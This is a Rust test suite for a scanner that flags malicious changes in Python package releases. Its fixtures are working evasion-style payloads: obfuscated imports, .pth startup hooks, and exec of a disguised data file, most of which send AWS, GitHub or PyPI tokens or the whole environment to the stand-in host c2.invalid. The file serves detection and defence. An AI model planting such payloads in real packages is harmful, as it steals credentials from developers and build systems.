//! The attacker's view: each test moves a payload past the obvious spelling (aliases,
//! `getattr`/`__import__` with computed strings, a `.pth`, a non-`.py` file run through
//! `exec(open(…).read())`) and checks the deny rule still fires, at the right moment.

use turncoat_archive::{Archive, PackageFile, Wheel};
use turncoat_finding::{Finding, Severity};
use turncoat_pyanalyze::{Capability, DiffContext, DistFacts, Moment, diff, wheel_facts};

fn wheel(files: &[(&str, &str)]) -> DistFacts {
    let files = files
        .iter()
        .map(|(p, d)| PackageFile {
            path: (*p).to_string(),
            data: d.as_bytes().to_vec(),
            mode: 0o644,
        })
        .collect();
    wheel_facts(&Wheel {
        archive: Archive {
            files,
            ..Archive::default()
        },
        ..Wheel::default()
    })
}

const CLEAN: &str = "\"\"\"demo\"\"\"\n__version__ = '1.0.0'\n";

fn judge(new: &[(&str, &str)]) -> Vec<Finding> {
    let old = wheel(&[("demo/__init__.py", CLEAN)]);
    diff(
        &old,
        &wheel(new),
        &DiffContext::new("demo", "1.0.0", "1.0.1"),
    )
}

fn has(f: &[Finding], code: &str) -> bool {
    f.iter().any(|x| x.code == code)
}

#[test]
fn aliased_environ_and_module() {
    let f = judge(&[(
        "demo/__init__.py",
        "from os import environ as e\nimport urllib.request as r\nr.urlopen('https://c2.invalid/k', data=e['AWS_SECRET_ACCESS_KEY'].encode())\n",
    )]);
    assert!(has(&f, "py-env-exfiltration"), "{f:#?}");
}

#[test]
fn getattr_and_import_with_computed_strings() {
    let f = judge(&[(
        "demo/__init__.py",
        "_o = __import__('o' + 's')\n_k = getattr(_o, 'env' + 'iron')['GITHUB_' + 'TOKEN']\n_s = getattr(__import__(''.join(['soc', 'ket'])), 'create_connection')\n_s(('c2.invalid', 443)).send(_k.encode())\n",
    )]);
    assert!(has(&f, "py-env-exfiltration"), "{f:#?}");
}

#[test]
fn reversed_and_sys_modules_spellings_resolve() {
    let src = "import os, sys\ngetattr(os, 'metsys'[::-1])('id')\nsys.modules['subprocess'].run(['id'])\n__builtins__['exec']('x = 1')\n";
    let f = wheel(&[("demo/__init__.py", src)]);
    let subs: Vec<_> = f.uses(Capability::Subprocess).collect();
    assert_eq!(subs.len(), 2, "{subs:#?}");
    assert!(f.uses(Capability::Exec).next().is_some());
}

#[test]
fn star_imports_and_assigned_aliases_resolve() {
    let src = "from subprocess import *\nrun_ = Popen\nrun_(['curl', 'https://c2.invalid'])\ng = __import__('os').getenv\ng('AWS_ACCESS_KEY_ID')\n";
    let f = wheel(&[("demo/__init__.py", src)]);
    assert_eq!(f.uses(Capability::Subprocess).count(), 1);
    assert!(f.details(Capability::EnvRead).contains("AWS_ACCESS_KEY_ID"));
}

#[test]
fn a_computed_import_name_is_a_fact() {
    let src =
        "import importlib, base64\nm = importlib.import_module(base64.b64decode(X).decode())\n";
    let f = judge(&[("demo/__init__.py", src)]);
    assert!(
        f.iter()
            .any(|x| x.code == "py-new-capability" && x.message.contains("computed import")),
        "{f:#?}"
    );
}

#[test]
fn code_moved_into_a_pth_runs_at_interpreter_start() {
    let f = judge(&[
        ("demo/__init__.py", CLEAN),
        (
            "demo_speedups.pth",
            "import os, urllib.request; urllib.request.urlopen('https://c2.invalid/?k=' + os.environ.get('AWS_SECRET_ACCESS_KEY', ''))\n",
        ),
    ]);
    assert!(has(&f, "py-pth-exec"), "{f:#?}");
    assert!(has(&f, "py-env-exfiltration"), "{f:#?}");
    let install = f
        .iter()
        .find(|x| x.code == "py-install-time-capability")
        .expect("start-time capability");
    assert!(
        install.message.contains("interpreter start"),
        "{}",
        install.message
    );
}

#[test]
fn a_pth_that_only_imports_moves_the_module_to_interpreter_start() {
    let facts = wheel(&[
        ("demo/__init__.py", CLEAN),
        (
            "demo/_hook.py",
            "import socket\nsocket.create_connection(('c2.invalid', 80))\n",
        ),
        ("zz_demo.pth", "import demo._hook\n"),
    ]);
    let net: Vec<_> = facts.uses(Capability::Network).collect();
    assert_eq!(net[0].moment, Moment::Start, "{net:#?}");
}

#[test]
fn exec_of_a_data_file_analyses_the_file_at_the_exec_moment() {
    let f = judge(&[
        (
            "demo/__init__.py",
            "import os\nexec(open(os.path.join(os.path.dirname(__file__), 'data', 'locale.dat')).read())\n",
        ),
        (
            "demo/data/locale.dat",
            "import os, requests\nrequests.post('https://c2.invalid/u', json=dict(os.environ))\n",
        ),
    ]);
    assert!(has(&f, "py-encoded-exec"), "{f:#?}");
    let ex = f
        .iter()
        .find(|x| x.code == "py-env-exfiltration")
        .expect("exfiltration in the data file");
    assert_eq!(ex.evidence[0].path, "demo/data/locale.dat");
    assert_eq!(ex.severity, Severity::Critical);
}

#[test]
fn a_function_the_top_level_calls_runs_at_import() {
    let src = "import os, requests, threading\ndef _sync():\n    requests.post('https://c2.invalid', data=os.environ['PYPI_TOKEN'])\nthreading.Thread(target=_sync).start()\n";
    let f = judge(&[("demo/__init__.py", src)]);
    let ex = f
        .iter()
        .find(|x| x.code == "py-env-exfiltration")
        .expect("finding");
    assert_eq!(ex.severity, Severity::Critical, "{}", ex.message);
    // The same function never referenced at top level is call-time: high, still a finding.
    let src = src.replace("threading.Thread(target=_sync).start()\n", "");
    let f = judge(&[("demo/__init__.py", &src)]);
    let ex = f
        .iter()
        .find(|x| x.code == "py-env-exfiltration")
        .expect("finding");
    assert_eq!(ex.severity, Severity::High);
}

#[test]
fn a_class_instantiated_at_top_level_runs_its_constructor_at_import() {
    let src = "import os, requests\nclass C:\n    def __init__(self):\n        requests.get('https://c2.invalid', params=dict(os.environ))\n_c = C()\n";
    let facts = wheel(&[("demo/__init__.py", src)]);
    let net: Vec<_> = facts.uses(Capability::Network).collect();
    assert_eq!(net[0].moment, Moment::Import);
}

#[test]
fn the_main_guard_is_call_time() {
    let src = "import subprocess\nif __name__ == '__main__':\n    subprocess.run(['x'])\n";
    let facts = wheel(&[("demo/__main__.py", src)]);
    let sub: Vec<_> = facts.uses(Capability::Subprocess).collect();
    assert_eq!(sub[0].moment, Moment::Call);
}

#[test]
fn hostile_sources_do_not_panic() {
    let deep = format!("x = {}1{}\n", "(".repeat(5000), ")".repeat(5000));
    let chain = format!("x = {}1\n", "1**".repeat(20000));
    let f = wheel(&[
        ("demo/a.py", &deep),
        ("demo/b.py", &chain),
        ("demo/c.py", "def (:\n"),
        ("demo/d.py", "\u{202e}exec('x')\n"),
    ]);
    assert!(
        f.unparsed.iter().any(|(p, _)| p == "demo/c.py"),
        "{:?}",
        f.unparsed
    );
}

#[test]
fn code_spelled_as_character_codes_is_decoded_exec() {
    let src = "exec(''.join(chr(c) for c in [105, 109, 112, 111, 114, 116, 32, 111, 115]))\n";
    let f = judge(&[("demo/__init__.py", src)]);
    assert!(has(&f, "py-encoded-exec"), "{f:#?}");
}

#[test]
fn a_local_module_setup_py_imports_runs_at_install_time() {
    let sdist = |files: &[(&str, &str)]| {
        turncoat_pyanalyze::sdist_facts(&Archive {
            files: files
                .iter()
                .map(|(p, d)| PackageFile {
                    path: (*p).to_string(),
                    data: d.as_bytes().to_vec(),
                    mode: 0o644,
                })
                .collect(),
            ..Archive::default()
        })
    };
    let setup = "from setuptools import setup\nimport _build_helpers\nsetup(name='demo')\n";
    let old = sdist(&[
        ("setup.py", setup),
        ("_build_helpers.py", "VERSION = '1'\n"),
    ]);
    let new = sdist(&[
        ("setup.py", setup),
        (
            "_build_helpers.py",
            "import urllib.request\nVERSION = urllib.request.urlopen('https://c2.invalid/v').read()\n",
        ),
    ]);
    let f = diff(&old, &new, &DiffContext::new("demo", "1.0.0", "1.0.1"));
    let hit = f
        .iter()
        .find(|x| x.code == "py-install-time-capability")
        .expect("install-time network in an imported helper");
    assert_eq!(hit.evidence[0].path, "_build_helpers.py");
}
